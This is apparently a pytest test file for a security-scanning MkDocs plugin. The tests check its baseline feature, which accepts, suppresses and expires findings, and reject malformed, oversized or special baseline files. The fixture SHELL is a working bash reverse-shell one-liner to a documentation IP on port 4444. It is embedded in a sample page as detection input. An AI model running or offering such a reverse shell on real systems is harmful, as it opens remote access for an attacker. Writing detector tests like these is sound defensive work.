"""The baseline file (SPEC §5): `threatpub baseline` writes fingerprints, `check` and the
plugin read them. Everything runs the real console scripts."""

from __future__ import annotations

import contextlib
import json
import re
import resource
import stat
import subprocess
from pathlib import Path

import pytest

from mkdocs_threatpub.core.baseline import BaselineError, read_entries
from mkdocs_threatpub.pipeline.session import SUPPRESSIBLE
from tests.conftest import BIN, Site, make_site, mkdocs, run_env, threatpub

SHELL = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"
POST = f"""
# Lab notes

```bash
{SHELL}
```
"""
CLEAN = "# Release notes\n\nUpgrade to 2.4.1.\n"
BASELINE = ".threatpub/baseline.json"


def site_with_baseline(root: Path, **options: object) -> Site:
    return make_site(
        root,
        {"posts/x.md": POST, "posts/clean.md": CLEAN, "index.md": "# Home\n"},
        {"baseline": BASELINE, **options},
    )


def check_json(site: Site, *args: str) -> tuple[int, dict]:
    result = threatpub("check", "-f", "mkdocs.yml", "--format", "json", *args, cwd=site.root)
    assert result.returncode in (0, 1), result.stderr
    return result.returncode, json.loads(result.stdout)


def page(report: dict, path: str) -> dict:
    return next(p for p in report["pages"] if p["path"] == path)


def counts(stdout: str) -> tuple[int, int, int]:
    match = re.search(r"(\d+) added, (\d+) kept, (\d+) removed", stdout)
    assert match, stdout
    added, kept, removed = (int(n) for n in match.groups())
    return added, kept, removed


def test_baseline_accepts_current_findings_and_reports_stale_ones(tmp_path: Path) -> None:
    site = site_with_baseline(tmp_path / "site")
    code, report = check_json(site)
    assert code == 1
    assert page(report, "posts/x.md")["verdict"] == "hold"

    created = threatpub("baseline", "-f", "mkdocs.yml", cwd=site.root)
    assert created.returncode == 0, created.stderr
    assert counts(created.stdout) == (1, 0, 0)
    assert BASELINE in created.stdout
    text = (site.root / BASELINE).read_text(encoding="utf-8")
    data = json.loads(text)
    assert data["version"] == 1
    [entry] = data["findings"]
    assert set(entry) == {"rule", "page", "fingerprint"}
    assert (entry["rule"], entry["page"]) == ("CAC402", "posts/x.md")
    assert re.fullmatch(r"[0-9a-f]{32}", entry["fingerprint"])
    # Never any page text: not the host, the port or the command.
    for needle in ("203.0.113.5", "4444", "/dev/tcp", "bash -i"):
        assert needle not in text

    # Accepted: published, with the baseline named as the reason.
    code, report = check_json(site)
    assert code == 0
    x = page(report, "posts/x.md")
    assert x["verdict"] == "publish"
    assert x["findings"] == []
    assert [(f["code"], f["suppressed_by"]) for f in x["suppressed"]] == [
        ("CAC402", "accepted in the baseline file")
    ]

    # Running it again changes nothing.
    again = threatpub("baseline", "-f", "mkdocs.yml", cwd=site.root)
    assert counts(again.stdout) == (0, 1, 0)
    assert (site.root / BASELINE).read_text(encoding="utf-8") == text

    # The content changes: a new finding, and the old entry is stale (META011, warn).
    site.write("posts/x.md", POST.replace("4444", "5555"))
    code, report = check_json(site)
    x = page(report, "posts/x.md")
    assert code == 1
    assert x["verdict"] == "hold", x["findings"]
    assert x["suppressed"] == []
    assert [f["code"] for f in x["findings"] if f["code"] == "CAC402"] == ["CAC402"]
    stale = next(f for f in x["findings"] if f["code"] == "META011")
    assert stale["action"] == "warn"
    assert "no longer occur" in stale["message"]

    # Rewriting the baseline replaces the stale entry.
    updated = threatpub("baseline", "-f", "mkdocs.yml", cwd=site.root)
    assert counts(updated.stdout) == (1, 0, 1)
    new_text = (site.root / BASELINE).read_text(encoding="utf-8")
    assert [e["fingerprint"] for e in json.loads(new_text)["findings"]] != [entry["fingerprint"]]
    assert "5555" not in new_text
    code, report = check_json(site)
    assert code == 0
    assert page(report, "posts/x.md")["findings"] == []


def test_baseline_leaves_out_findings_accepted_otherwise(tmp_path: Path) -> None:
    """Only unsuppressed findings go in: an inline allow already accepts its shell."""
    allowed = POST.replace("```bash", '<!-- threatpub: allow CAC402 reason="reviewed" -->\n```bash')
    site = make_site(tmp_path / "site", {"posts/x.md": allowed, "posts/y.md": POST})
    result = threatpub("baseline", "-f", "mkdocs.yml", cwd=site.root)
    assert result.returncode == 0, result.stderr
    entries = json.loads((site.root / BASELINE).read_text())["findings"]
    assert [e["page"] for e in entries] == ["posts/y.md"]


def test_baseline_for_some_paths_keeps_other_pages_entries(tmp_path: Path) -> None:
    site = site_with_baseline(tmp_path / "site")
    site.write("posts/y.md", POST.replace("4444", "6666"))
    assert threatpub("baseline", "-f", "mkdocs.yml", cwd=site.root).returncode == 0
    pages = sorted(e["page"] for e in json.loads((site.root / BASELINE).read_text())["findings"])
    assert pages == ["posts/x.md", "posts/y.md"]
    site.write("posts/y.md", CLEAN)
    only_x = threatpub("baseline", "-f", "mkdocs.yml", "docs/posts/x.md", cwd=site.root)
    assert counts(only_x.stdout) == (0, 2, 0)
    both = threatpub("baseline", "-f", "mkdocs.yml", cwd=site.root)
    assert counts(both.stdout) == (0, 1, 1)


def test_check_baseline_option_without_config(tmp_path: Path) -> None:
    """`--baseline FILE` and `--output FILE` work on plain folders, paths relative to cwd."""
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "x.md").write_text(POST.lstrip(), encoding="utf-8")
    written = threatpub("baseline", "notes", "--output", "accepted.json", cwd=tmp_path)
    assert written.returncode == 0, written.stderr
    assert json.loads((tmp_path / "accepted.json").read_text())["findings"][0]["page"] == (
        "notes/x.md"
    )
    held = threatpub("check", "notes", cwd=tmp_path)
    assert held.returncode == 1
    accepted = threatpub("check", "notes", "--baseline", "accepted.json", cwd=tmp_path)
    assert accepted.returncode == 0, accepted.stdout
    missing = threatpub("check", "notes", "--baseline", "nope.json", cwd=tmp_path)
    assert missing.returncode == 2
    assert "nope.json" in missing.stderr


def test_default_baseline_path_without_the_option(tmp_path: Path) -> None:
    site = make_site(tmp_path / "site", {"posts/x.md": POST})
    result = threatpub("baseline", "-f", "mkdocs.yml", cwd=site.root)
    assert result.returncode == 0, result.stderr
    assert (site.root / ".threatpub" / "baseline.json").is_file()


MALFORMED = [
    ("{not json", "not valid JSON"),
    ("[]", "expected a JSON object"),
    ('{"version": 2, "findings": []}', "'version' must be 1"),
    ('{"version": 1}', "'findings' must be a list"),
    ('{"version": 1, "findings": [{"rule": "CAC402", "page": "posts/x.md"}]}', "'fingerprint'"),
    (
        '{"version": 1, "findings": [{"rule": "CAC402", "page": "posts/x.md", '
        '"fingerprint": "not-a-hash"}]}',
        "32 lower-case hex digits",
    ),
    (
        '{"version": 1, "findings": [{"rule": "CAC801", "page": "posts/x.md", '
        '"fingerprint": "0123456789abcdef0123456789abcdef"}]}',
        "content rule code",
    ),
    (
        '{"version": 1, "findings": [{"rule": "CAC402", "page": "posts/x.md", '
        '"fingerprint": "0123456789abcdef0123456789abcdef", "match": "bash -i"}]}',
        "unexpected key 'match'",
    ),
]


@pytest.mark.parametrize(("content", "problem"), MALFORMED, ids=[p for _, p in MALFORMED])
def test_malformed_baseline_is_a_configuration_error(
    tmp_path: Path, content: str, problem: str
) -> None:
    """Exit 2 from `check` and `baseline`; the message names the file and the problem."""
    site = site_with_baseline(tmp_path / "site")
    (site.root / ".threatpub").mkdir()
    (site.root / BASELINE).write_text(content, encoding="utf-8")
    for command in ("check", "baseline"):
        result = threatpub(command, "-f", "mkdocs.yml", cwd=site.root)
        assert result.returncode == 2, (command, result.stdout, result.stderr)
        assert "baseline.json" in result.stderr, result.stderr
        assert problem in result.stderr, result.stderr
        assert "Traceback" not in result.stderr
    assert (site.root / BASELINE).read_text(encoding="utf-8") == content  # left alone


@pytest.mark.slow
def test_malformed_baseline_fails_the_build(tmp_path: Path) -> None:
    site = site_with_baseline(tmp_path / "site")
    (site.root / ".threatpub").mkdir()
    (site.root / BASELINE).write_text('{"version": 1, "findings": {}}', encoding="utf-8")
    result = mkdocs(site, "build")
    assert result.returncode != 0
    assert "baseline.json" in result.stderr
    assert "'findings' must be a list" in result.stderr
    assert "Traceback" not in result.stderr


def test_baseline_inside_site_dir_is_refused(tmp_path: Path) -> None:
    site = site_with_baseline(tmp_path / "site", baseline="site/baseline.json")
    for command in ("check", "baseline"):
        result = threatpub(command, "-f", "mkdocs.yml", cwd=site.root)
        assert result.returncode == 2, result.stderr
        assert "inside site_dir" in result.stderr
    other = site_with_baseline(tmp_path / "other")
    result = threatpub("baseline", "-f", "mkdocs.yml", "--output", "site/b.json", cwd=other.root)
    assert result.returncode == 2
    assert "inside site_dir" in result.stderr
    assert not (other.root / "site" / "b.json").exists()


@pytest.mark.slow
def test_build_reads_the_baseline(tmp_path: Path) -> None:
    """The plugin publishes an accepted page and holds it again once its content changes."""
    site = site_with_baseline(tmp_path / "site")
    assert threatpub("baseline", "-f", "mkdocs.yml", cwd=site.root).returncode == 0
    built = mkdocs(site, "build", "--strict")
    assert built.returncode == 0, built.stderr
    assert site.built("posts/x.md")
    report = json.loads((site.root / ".threatpub" / "report.json").read_text())
    assert page(report, "posts/x.md")["suppressed"][0]["suppressed_by"] == (
        "accepted in the baseline file"
    )

    site.write("posts/x.md", POST.replace("4444", "5555"))
    rebuilt = mkdocs(site, "build")
    assert rebuilt.returncode == 0, rebuilt.stderr
    assert not site.built("posts/x.md")
    report = json.loads((site.root / ".threatpub" / "report.json").read_text())
    x = page(report, "posts/x.md")
    assert x["verdict"] == "hold"
    assert {"CAC402", "META011"} <= {f["code"] for f in x["findings"]}


# -- reading limits (issue 16, case 10) ----------------------------------------------------------

TEN_MB = 10 * 1024 * 1024
# What a run may take before a read without limit counts as a failure (MemoryError).
MEMORY_LIMIT = 2 << 30


def _limited(command: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    """Run ``command`` with at most MEMORY_LIMIT bytes of address space and two minutes: a
    file read without limit ends in a MemoryError rather than exhausting the machine."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))

    return subprocess.run(
        command,
        cwd=cwd,
        env=run_env(),
        preexec_fn=limit,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def _dev_zero() -> Path:
    zero = Path("/dev/zero")
    if not zero.exists() or not stat.S_ISCHR(zero.stat().st_mode):
        pytest.skip("no /dev/zero here")
    return zero


@pytest.mark.parametrize("kind", ["folder", "fifo", "device"])
def test_baseline_that_is_not_a_regular_file_is_refused(tmp_path: Path, kind: str) -> None:
    from tests.test_paths import SPECIAL, make_special, readers_of

    path = tmp_path / "baseline.json"
    unchanged = make_special(kind, path)
    watch = readers_of(path) if kind == "fifo" else contextlib.nullcontext([])
    with watch as readers, pytest.raises(BaselineError) as raised:
        read_entries(path, SUPPRESSIBLE)
    message = raised.value.args[0]
    assert f"baseline file {path}: it is " in message
    assert "not a regular file" in message
    assert "'.threatpub/baseline.json'" in message
    assert "基线文件" in message.zh
    assert SPECIAL[kind][2] in message
    assert unchanged()
    assert not readers, "the FIFO was read: it would wait for a writer for ever"


def test_baseline_larger_than_the_limit_is_refused(tmp_path: Path) -> None:
    site = site_with_baseline(tmp_path / "site")
    big = site.root / BASELINE
    big.parent.mkdir()
    with big.open("wb") as handle:
        handle.truncate(TEN_MB + 1)  # sparse: no disk used
    for command in ("check", "baseline"):
        result = threatpub(command, "-f", "mkdocs.yml", cwd=site.root)
        assert result.returncode == 2, result.stdout + result.stderr
        assert f"baseline file {big}: it is larger than 10 MB" in result.stderr, result.stderr
        assert "Traceback" not in result.stderr
    assert big.stat().st_size == TEN_MB + 1  # never rewritten
    # Just under the limit is read (and rejected only for what it holds).
    with big.open("r+b") as handle:
        handle.truncate(TEN_MB)
    result = threatpub("check", "-f", "mkdocs.yml", cwd=site.root)
    assert result.returncode == 2
    assert "not valid JSON" in result.stderr, result.stderr


def test_baseline_option_naming_dev_zero_is_refused_unread(tmp_path: Path) -> None:
    zero = _dev_zero()
    site = site_with_baseline(tmp_path / "site", baseline=str(zero))
    result = _limited([str(BIN / "threatpub"), "check", "-f", "mkdocs.yml"], site.root)
    assert result.returncode == 2, result.stdout + result.stderr[-3000:]
    assert (
        "threatpub option 'baseline': /dev/zero exists and is a character device" in result.stderr
    ), result.stderr[-3000:]
    assert "Traceback" not in result.stderr


@pytest.mark.slow
def test_build_with_dev_zero_as_baseline_fails_at_once(tmp_path: Path) -> None:
    zero = _dev_zero()
    site = site_with_baseline(tmp_path / "site", baseline=str(zero))
    result = _limited([str(BIN / "mkdocs"), "build"], site.root)
    output = result.stdout + result.stderr
    assert result.returncode != 0, output[-3000:]
    assert "threatpub option 'baseline': /dev/zero exists and is a character device" in output
    assert "Traceback" not in output, output[-3000:]
    assert "MemoryError" not in output, output[-3000:]
    assert not (site.out / "index.html").exists()
